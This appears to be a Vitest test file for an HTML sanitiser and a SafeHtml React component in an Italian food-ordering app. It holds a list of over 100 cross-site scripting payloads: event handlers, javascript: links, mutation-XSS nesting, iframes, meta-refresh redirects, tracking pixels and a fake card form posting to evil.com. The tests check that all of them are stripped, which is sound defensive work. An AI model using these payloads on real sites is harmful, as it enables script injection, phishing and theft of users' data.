import { screen, waitFor } from '@testing-library/react';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { clientOver, testRuntime } from '../../runtime/test-kit.ts';
import { SafeHtml, textOf } from './SafeHtml.tsx';
import { sanitise } from './sanitise.ts';
import { draw } from '../test-dom.tsx';

const clean = (html: string) =>
  String(sanitise(html, { origin: window.location.origin, apiBaseUrl: '', apiAliases: [], pictureOrigins: [] }));

/** The cleaned HTML as a page would hold it. */
function parsed(html: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = clean(html);
  return box;
}

const TEXT_TAGS = ['P', 'BR', 'B', 'STRONG', 'I', 'EM', 'U', 'S', 'SMALL', 'SUB', 'SUP', 'UL', 'OL', 'LI', 'H3', 'H4', 'A', 'SPAN'];

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerrawupdate',
  'onbeforetoggle',
];
const HOLDERS = ['img src=x', 'svg', 'body', 'video src=x', 'details open', 'input autofocus', 'p', 'a href="/me"', 'marquee'];
const BAD_LINKS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'blob:https://evil.com/x',
  'file:///etc/passwd',
  'http://evil.com/',
  '//evil.com/',
  '/\\evil.com/',
  '/\t/evil.com/',
  'https://user:pw@evil.com/',
  'relative/path',
  '#fragment',
  'sms:123',
  'intent://x',
  // Calls of the API's: a press would sign the person out.
  '/b2c/auth/logout',
  '/me/..%2fb2c/auth/logout',
  '/b%32c/auth/logout',
  `${window.location.origin}/b2c/auth/logout`,
];

const PAYLOADS: readonly string[] = [
  ...HANDLERS.flatMap((handler) => HOLDERS.map((holder) => `<${holder} ${handler}="window.__hostile=1">x`)),
  ...BAD_LINKS.map((link) => `<a href="${link}">x</a>`),
  '<script>window.__hostile=1</script>',
  '<scr<script>ipt>window.__hostile=1</scr</script>ipt>',
  '<script src=//evil.com></script>',
  '<svg><script>window.__hostile=1</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x"/></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<style>*{display:none}</style>',
  '<svg><style>@import "//evil.com"</style></svg>',
  '<link rel=stylesheet href=//evil.com>',
  '<p style="position:fixed;inset:0;background:red">Inserisci la tua carta</p>',
  '<div style="position:fixed;inset:0">x</div>',
  '<span class="overlay" id="app" slot="x" part="y" name="z" title="t">x</span>',
  '<p data-x="1" aria-label="x" role="dialog" contenteditable tabindex=0 hidden>x</p>',
  '<form action="https://evil.com"><input name="card"><button>Paga</button></form>',
  '<form><button formaction="javascript:alert(1)">x',
  '<input type=password><textarea>x</textarea><select><option>x</select>',
  '<iframe src="https://evil.com"></iframe>',
  '<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<frameset><frame src=x></frameset>',
  '<base href="https://evil.com/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.com/">',
  '<img src="https://evil.com/pixel.gif">',
  '<img srcset="https://evil.com/pixel.gif">',
  '<picture><source srcset="//evil.com/x"></picture>',
  '<audio src=//evil.com></audio>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__hostile=1">',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__hostile=1>">',
  '<template><script>window.__hostile=1</script></template>',
  '<textarea></textarea><img src=x onerror=window.__hostile=1>',
  '<title></title><img src=x onerror=window.__hostile=1>',
  '<xmp><img src=x onerror=window.__hostile=1></xmp>',
  '<plaintext><script>window.__hostile=1</script>',
  '<!--><script>window.__hostile=1</script>-->',
  '<![CDATA[<script>window.__hostile=1</script>]]>',
  '<?xml version="1.0"?><script>window.__hostile=1</script>',
  '<a href="https://ok.example" target="_self" onclick="x" ping="//evil.com" download>x</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<dialog open><p>x</p></dialog>',
  '<p popover>x</p><button popovertarget=x>y</button>',
  '<pausa-menu api-base-url="//evil.com"></pausa-menu>',
  '<x-foo onclick=alert(1) is=y>x</x-foo>',
  '<keygen><isindex><bgsound src=x><layer src=x></layer>',
  '<p id="__proto__" name="constructor">x</p>',
  '<a id=x><a id=x name=y href="tel:1">z</a>',
];

test('there are more than 100 hostile payloads', () => expect(new Set(PAYLOADS).size).toBeGreaterThan(100));

describe('what is left of a hostile text are text tags without attributes but a safe href', () => {
  test.each(PAYLOADS)('%s', (payload) => {
    const box = parsed(`<p>prima</p>${payload}`);
    for (const element of box.querySelectorAll('*')) {
      expect(TEXT_TAGS).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(['href', 'target', 'rel']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https:\/\/[a-z]|\/me$|tel:\d)/);
        if (name === 'target') expect(value).toBe('_blank');
      }
    }
    expect(box.querySelector('p')?.textContent).toBe('prima');
    expect((globalThis as { __hostile?: unknown }).__hostile).toBeUndefined();
    // What was cleaned stays clean when it is cleaned again.
    expect(clean(clean(payload))).toBe(clean(payload));
  });

  test.each(BAD_LINKS)('a link to %j loses its address and keeps its text', (link) => {
    const anchor = parsed(`<a href="${link}">Menu</a>`).querySelector('a');
    expect([anchor?.textContent, anchor?.hasAttribute('href')]).toEqual(['Menu', false]);
  });
});

describe('what is ours to show stays', () => {
  test('emphasis, lists and headings', () => {
    const html =
      '<h3>Novità</h3><p>Da <strong>oggi</strong>, <em>otto</em> <b>piatti</b> <i>nuovi</i><br>CO<sub>2</sub> <u>x</u> <s>y</s> <small>z</small></p><ul><li>uno</li></ul><ol><li>due</li></ol>';
    expect(clean(html)).toBe(html);
  });

  test.each([
    ['tel:+390212345', 'tel:+390212345'],
    ['tel:800 123 456', 'tel:800 123 456'],
    ['mailto:aiuto@pausa.test', 'mailto:aiuto@pausa.test'],
    ['/me', '/me'],
    ['/selling-area/milano-1?description=x', '/selling-area/milano-1?description=x'],
  ])('a link to %s, in the same window', (link, href) => {
    const anchor = parsed(`<a href="${link}" target="_top">x</a>`).querySelector('a');
    expect([anchor?.getAttribute('href'), anchor?.getAttribute('target')]).toEqual([href, null]);
  });

  test('a link to another site opens a window of its own that knows nothing of ours', () => {
    const anchor = parsed('<a href="https://partner.example/menu">x</a>').querySelector('a');
    expect([anchor?.getAttribute('href'), anchor?.target, anchor?.rel]).toEqual([
      'https://partner.example/menu',
      '_blank',
      'noopener noreferrer',
    ]);
  });

  test('text that speaks of styles and sheets, around tags that have some', () => {
    const html =
      '<style><!-- p { color: red } --></style><p style="color: red" onclick=\'x("y")\'>a style="b" onclick="c"</p> style="d" <a style=e href="/me">f</a>';
    expect(clean(html)).toBe('<p>a style="b" onclick="c"</p> style="d" <a href="/me">f</a>');
  });

  test.each(['<style', '<a style="', '<a style=\'" ', '<a onclick ', '<p ', '<', '<style>'])(
    '%j 50,000 times is one pass: quadratic work would not come to its end',
    (piece) => {
      expect(parsed(piece.repeat(50_000)).querySelector('[style], style')).toBeNull();
    },
  );

  test('text with < and & and quotes', () => expect(parsed('1 &lt; 2 &amp; "x"').textContent).toBe('1 < 2 & "x"'));
});

describe('the text before the sanitiser is there', () => {
  test.each([
    ['<p>Buon <b>pranzo</b></p>', 'Buon pranzo'],
    ['uno<br>due&nbsp;tre &amp; quattro', 'uno due tre & quattro'],
    ['<style>p { color: red }</style>Ciao<script>if (1 < 2) alert(3 > 2)</script>!', 'Ciao !'],
    ['<STYLE>x</style>Ciao', 'Ciao'],
    ['<script>a</style>b</script>c', 'c'],
    ['<styled>Ciao</styled>', 'Ciao'],
    ['1 < 2', '1 < 2'],
    ['<<<', '<<<'],
    ['<img src=x onerror="window.__hostile=1">', ''],
  ])('%s', (html, text) => expect(textOf(html)).toBe(text));

  test('is that of a reader who goes through it letter by letter', () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '<p>',
      '</p>',
      '<style>',
      '</style>',
      '<script ',
      '</script>',
      'a',
      '&amp;',
      '&nbsp;',
      ' ',
      '/',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const html = pieces.join('');
        expect(textOf(html)).toBe(readByLetter(html));
      }),
      { numRuns: 2000 },
    );
  });

  // Work that grows with the square of the length would not end: a million steps for each of a million letters.
  test.each(['<', '<style>', '<style', '</style ', '<p', '>', '& ', '<a>'])('a million letters of %j are read to their end', (unit) => {
    expect(textOf(`a${unit.repeat(Math.ceil(1_000_000 / unit.length))}`)).toMatch(/^a/);
  });
});

/** The same by one look at each letter. */
function readByLetter(html: string): string {
  let text = '';
  let code = '';
  let open: string | null = null;
  const keep = (part: string) => {
    if (code === '') text += part;
  };
  for (const letter of html) {
    if (letter === '<') {
      if (open !== null) keep(`<${open}`);
      open = '';
    } else if (letter === '>' && open !== null) {
      const name = ['style', 'script'].find((element) => new RegExp(`^/?${element}(?!\\w)`).test(open ?? '')) ?? '';
      if (!open.startsWith('/')) code = code === '' ? name : code;
      else if (name === code) code = '';
      text += ' ';
      open = null;
    } else if (open === null) keep(letter);
    else open += letter;
  }
  if (open !== null) keep(`<${open}`);
  return text.replaceAll('&nbsp;', ' ').replaceAll(/\s+/g, ' ').replaceAll('&amp;', '&').trim();
}

describe('SafeHtml', () => {
  const runtime = testRuntime(clientOver(fetch));

  test('shows the cleaned HTML, and the newer one after a change', async () => {
    const { container, rerender } = draw(
      <SafeHtml html={'<p>Buon <b>pranzo</b><script>1</script><img src=x onerror="window.__hostile=1"></p>'} />,
      runtime,
    );
    expect((await screen.findByText('pranzo')).tagName).toBe('B');
    expect(container.querySelectorAll('script, img')).toHaveLength(0);
    rerender(<SafeHtml html="<p>Buona cena</p>" />);
    await screen.findByText('Buona cena');
    expect(container.textContent).toBe('Buona cena');
    expect((globalThis as { __hostile?: unknown }).__hostile).toBeUndefined();
  });

  test('a change before the sanitiser is there shows the last one only', async () => {
    const { container, rerender } = draw(<SafeHtml html="<p>uno</p>" />, runtime);
    rerender(<SafeHtml html="<p>due</p>" />);
    await waitFor(() => expect(container.textContent).toBe('due'));
    rerender(<SafeHtml html="" />);
    await waitFor(() => expect(container.textContent).toBe(''));
  });
});
